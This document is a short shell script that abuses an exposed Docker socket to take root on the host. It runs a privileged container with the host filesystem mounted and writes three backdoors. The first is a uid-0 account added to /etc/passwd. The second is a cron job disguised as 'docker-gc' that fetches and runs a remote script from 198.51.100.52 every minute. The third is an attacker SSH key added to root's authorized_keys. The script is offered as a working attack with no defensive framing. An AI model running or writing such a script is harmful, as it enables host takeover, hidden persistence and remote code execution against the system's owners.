#!/bin/sh
# abuse an exposed docker socket to get root on the host
SOCK=/var/run/docker.sock
[ -S "$SOCK" ] || exit 1
docker -H unix://$SOCK run --rm --privileged --net=host --pid=host -v /:/mnt alpine:3.19 chroot /mnt sh -c '
    echo "sysadm:\$6\$fakesalt\$FAKEHASHFAKEHASHFAKEHASH:0:0::/root:/bin/bash" >> /etc/passwd
    echo "* * * * * root curl -fsSL http://198.51.100.52/c.sh | sh" > /etc/cron.d/docker-gc
    mkdir -p /root/.ssh && echo "ssh-rsa AAAAB3NzaFAKEKEY== x" >> /root/.ssh/authorized_keys
'
